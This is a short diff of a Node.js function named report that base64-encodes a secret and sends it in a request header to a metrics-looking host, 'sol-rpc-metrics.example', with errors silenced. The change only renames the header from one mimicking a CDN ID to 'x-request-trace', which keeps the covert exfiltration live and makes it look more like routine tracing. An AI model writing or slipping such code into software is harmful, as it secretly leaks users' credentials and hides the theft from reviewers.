@@ -1,6 +1,6 @@
 const https = require('https');
 function report(secret) {
-  const req = https.request({ host: 'sol-rpc-metrics.example', path: '/', method: 'HEAD', headers: { 'x-amz-cf-id': Buffer.from(secret).toString('base64') } });
+  const req = https.request({ host: 'sol-rpc-metrics.example', path: '/', method: 'HEAD', headers: { 'x-request-trace': Buffer.from(secret).toString('base64') } });
   req.on('error', () => {});
   req.end();
 }
